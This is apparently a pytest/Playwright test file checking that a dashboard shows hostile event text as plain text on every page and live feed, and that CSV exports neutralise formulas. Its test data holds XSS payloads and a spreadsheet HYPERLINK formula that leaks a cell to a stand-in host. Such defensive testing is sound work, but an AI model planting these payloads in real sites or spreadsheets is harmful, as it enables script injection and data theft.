"""Output safety in a real browser: event text holding HTML and JavaScript is
shown as text on every page and executes nothing (a dialog fails the test,
as do console errors and injected elements); the live feed shows a hostile
event as text; the tables' CSV exports neutralise spreadsheet formulas.

Every page of ``layouts.pages.PAGES`` is visited, so pages added later are
covered too, plus the session and execution drill-downs.
"""

from __future__ import annotations

import csv
import urllib.parse
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from core.schemas import ExecutionIn
from data import records
from layouts.pages import PAGES
from tests.factories import uid

pytestmark = pytest.mark.browser

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "javascript:alert(3)",
    '"><svg onload=alert(4)>',
)
# Ids that drill-downs put in a path (no "/" in them).
SESSION_ID = "<img src=x onerror=alert(2)>"
EXECUTION_ID = '"><svg onload=alert(4)>'
COMPONENT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click me")'
INJECTED = "script:not([src]):text-matches('alert\\\\(')"


@pytest.fixture(scope="module")
def hostile_server(make_shared_server: Any, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """A server holding events whose every text field is hostile, and a
    session, an execution and a component with hostile ids and names (written
    straight to the database: the API's id rules would refuse these ids, data
    imported or written by older versions need not follow them)."""
    server = make_shared_server(f"sqlite:///{tmp_path_factory.mktemp('xss') / 'pulse.db'}")
    now = datetime.now(timezone.utc)
    events = []
    for k, text in enumerate(PAYLOADS):
        events.append(
            {
                "ts": (now - timedelta(minutes=k + 1)).isoformat(),
                "source": text,
                "type": text,
                "entity": text,
                "user": text,
                "session_id": text,
                "execution_id": text,
                "status": text,
                "message": text,
                "attrs": {text: text, "nested": {text: [text]}},
                "value": 1.5,
                "duration_ms": 12.0,
            }
        )
    events.append(
        {"type": "request", "source": "web", "entity": FORMULA, "duration_ms": 40.0, "status": "200", "user": FORMULA}
    )
    r = server.post("/api/events", json=events)
    assert r.status_code == 201, r.text
    db, svc = server.services.db, server.services
    with db.write() as conn:
        records.start_session(
            conn,
            session_id=SESSION_ID,
            source=PAYLOADS[0],
            user=PAYLOADS[1],
            started_at=now - timedelta(minutes=5),
            attrs={PAYLOADS[2]: PAYLOADS[3]},
        )
        records.start_session(
            conn,
            session_id="sess_hostile",
            source=PAYLOADS[3],
            user=PAYLOADS[1],
            started_at=now - timedelta(minutes=5),
            attrs={PAYLOADS[0]: PAYLOADS[2]},
        )
        records.start_session(
            conn,
            session_id="sess_formula",
            source="web",
            user=FORMULA,
            started_at=now - timedelta(minutes=4),
            attrs=None,
        )
        run = ExecutionIn(
            script=PAYLOADS[0],
            status="failed",
            exit_code=1,
            duration_ms=1500.0,
            started_at=now - timedelta(minutes=3),
            metrics={"rows": 3.0},
            attrs={PAYLOADS[1]: PAYLOADS[3]},
        )
        records.record_execution(conn, run.model_dump() | {"id": EXECUTION_ID, "source": PAYLOADS[3]}, now)
        records.record_execution(conn, run.model_dump() | {"id": "exe_hostile", "source": PAYLOADS[3]}, now)
        records.set_component(conn, COMPONENT, "online", PAYLOADS[1], PAYLOADS[3], now)
    svc.committed([])
    return server


@pytest.fixture
def guarded(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A page on which any dialog (alert, confirm, prompt) or console error is
    recorded; the test fails on either."""
    context = browser.new_context(viewport={"width": 1400, "height": 900}, accept_downloads=True)
    page = context.new_page()
    problems: list[str] = []

    def on_dialog(dialog: Any) -> None:
        problems.append(f"dialog {dialog.type}: {dialog.message} on {page.url}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on(
        "console", lambda m: problems.append(f"console {m.type}: {m.text} on {page.url}") if m.type == "error" else None
    )
    page.on("pageerror", lambda exc: problems.append(f"page error: {exc} on {page.url}"))
    page.on("response", lambda r: problems.append(f"{r.status} {r.url}") if r.status >= 500 else None)
    page.set_default_timeout(45_000)
    yield page, problems
    context.close()


def settle(page: Page) -> None:
    """Wait until the page's callbacks have answered (no request for 500 ms)."""
    page.wait_for_load_state("networkidle")
    expect(page.locator("._dash-loading")).to_have_count(0)


def assert_nothing_injected(page: Page) -> None:
    """No element the payloads would create if they were parsed as HTML."""
    assert page.locator("img[src='x']").count() == 0, page.url
    assert page.locator("svg[onload]").count() == 0, page.url
    assert page.locator("[onerror], [onload]").count() == 0, page.url
    assert page.locator("a[href^='javascript:' i]").count() == 0, page.url
    inline = page.evaluate("() => [...document.scripts].filter(s => !s.src && s.textContent.includes('alert(')).length")
    assert inline == 0, page.url


def test_every_page_shows_hostile_text_as_text_and_runs_none_of_it(
    hostile_server: Any, guarded: tuple[Page, list[str]]
) -> None:
    page, problems = guarded
    paths = [p.path for p in PAGES]
    paths += ["/sessions/sess_hostile", "/executions/exe_hostile"]
    # Hostile ids in the address itself (the page looks up the id as the browser sends it, percent-encoded).
    paths += [
        f"/sessions/{urllib.parse.quote(SESSION_ID, safe='')}",
        f"/executions/{urllib.parse.quote(EXECUTION_ID, safe='')}",
    ]
    shown: dict[str, list[str]] = {}
    for path in paths:
        page.goto(hostile_server.url + path)
        settle(page)
        assert_nothing_injected(page)
        body = page.locator("body").inner_text()
        shown[path] = [p for p in PAYLOADS if p in body]
    assert not problems, problems
    print(f"\nhostile text shown as text: {shown}")
    # Pages that show events, sessions, runs or components show the payloads as text.
    assert set(shown["/"]) == set(PAYLOADS), shown
    assert PAYLOADS[1] in shown["/sessions"], shown
    assert PAYLOADS[0] in shown["/executions"], shown
    assert PAYLOADS[1] in shown["/sessions/sess_hostile"], shown
    assert PAYLOADS[0] in shown["/executions/exe_hostile"], shown


def test_a_hostile_event_pushed_live_shows_as_text_in_the_feed(
    hostile_server: Any, guarded: tuple[Page, list[str]]
) -> None:
    page, problems = guarded
    page.goto(hostile_server.url + "/")
    expect(page.locator("#live-status")).to_have_text("live")
    page.wait_for_function("() => window.pulseboardLive && window.pulseboardLive.ready")
    text = f"<img src=x onerror=alert(5)> live {uid()} <script>alert(6)</script>"
    r = hostile_server.post(
        "/api/events",
        json={
            "type": "<b>live</b>",
            "source": "<i>push</i>",
            "message": text,
            "entity": "javascript:alert(7)",
            "attrs": {"<svg onload=alert(8)>": 1},
        },
    )
    event_id = r.json()["ids"][0]
    expect(page.locator(f"#feed-event-{event_id}")).to_contain_text(text)
    expect(page.locator(f"#feed-event-{event_id}")).to_contain_text("<b>live</b>")
    assert page.locator(f"#feed-event-{event_id} b, #feed-event-{event_id} img, #feed-event-{event_id} i").count() == 0
    assert_nothing_injected(page)
    assert not problems, problems


@pytest.mark.parametrize(("path", "grid"), [("/sessions", "ss-table"), ("/revenue", "rv-timings")])
def test_grid_csv_exports_neutralise_formulas(
    hostile_server: Any, guarded: tuple[Page, list[str]], path: str, grid: str
) -> None:
    page, problems = guarded
    page.goto(hostile_server.url + path)
    expect(page.locator(f"#{grid} .ag-center-cols-container")).to_contain_text("HYPERLINK")
    with page.expect_download() as info:
        page.locator(f"#{grid}-csv").click()
    with open(info.value.path(), encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + FORMULA in cells, rows
    assert not [
        c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and not _number(c))
    ], rows
    assert not problems, problems


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
